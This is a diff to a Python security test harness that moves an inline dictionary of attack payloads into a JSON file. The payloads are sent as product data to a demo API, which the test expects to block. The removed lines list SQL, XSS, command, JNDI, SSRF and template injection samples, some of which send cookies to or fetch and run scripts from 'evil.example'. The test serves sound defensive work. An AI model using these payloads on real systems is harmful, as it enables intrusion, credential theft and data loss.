@@ -40,33 +40,8 @@ CATALOGUE_SOURCES = {
     "oscar-products:json",
 }
 
-ATTACKS: dict[str, list[Any]] = {
-    "sql_injection": [
-        "' OR '1'='1' --",
-        "1; DROP TABLE products; --",
-        "x' UNION SELECT email, password FROM accounts --",
-    ],
-    "nosql_injection": [{"$ne": None}, {"$where": "this.password == 'x' || sleep(5000)"}],
-    "xss": ["<script>fetch('//evil.example/'+document.cookie)</script>", "<img src=x onerror=alert(1)>"],
-    "script_injection": ["javascript:alert(document.domain)", "java\tscript:eval(atob('YWxlcnQoMSk='))"],
-    "command_injection": ["; cat /etc/passwd", "$(curl http://evil.example/x.sh | sh)", "| whoami"],
-    "path_traversal": ["../../../../etc/passwd", "..%2f..%2f..%2fwindows%2fwin.ini"],
-    "ldap_injection": ["*)(uid=*))(|(uid=*", "admin)(&(password=*))"],
-    "xml_injection": ['<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'],
-    "template_injection": [
-        "{{7*7}}{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
-        "${T(java.lang.Runtime).getRuntime().exec('id')}",
-    ],
-    "ssrf": ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "gopher://127.0.0.1:6379/_FLUSHALL"],
-    "jndi_injection": ["${jndi:ldap://evil.example/a}", "${${lower:j}ndi:${lower:l}dap://evil.example/a}"],
-    "header_injection": ["x%0d%0aSet-Cookie:%20session=evil", "value\r\nLocation: http://evil.example/"],
-    "prototype_pollution": [{"__proto__": {"isAdmin": True}}, {"constructor": {"prototype": {"isAdmin": True}}}],
-    "code_injection": [
-        "__import__('os').system('id')",
-        'O:8:"Evil\\User":1:{s:4:"exec";s:2:"id";}',
-        '<!--#exec cmd="id" -->',
-    ],
-}
+ATTACKS: dict[str, list[Any]] = json.loads((HERE / "attacks.json").read_text())
+"""By threat type: what is sent as a product's description, or as its attributes where it is an object."""
 
 
 class Failed(Exception):
@@ -234,14 +209,7 @@ class Walkthrough:
 
     def attack(self, token: str, threat_type: str, payload: Any) -> None:
         """Send an attack as a product; it must be blocked."""
-        product = (
-            {"name": "Garden chair", "description": payload}
-            if isinstance(payload, str)
-            else {
-                "name": "Garden chair",
-                "attributes": payload,
-            }
-        )
+        product = {"name": "Garden chair", "description" if isinstance(payload, str) else "attributes": payload}
         status, reply = self.client.call("attack", "POST", "/demo/products", product, token=token)
         self.sent_attacks[threat_type] += 1
         if status == 403 and reply.get("code") == "THREAT_DETECTED":
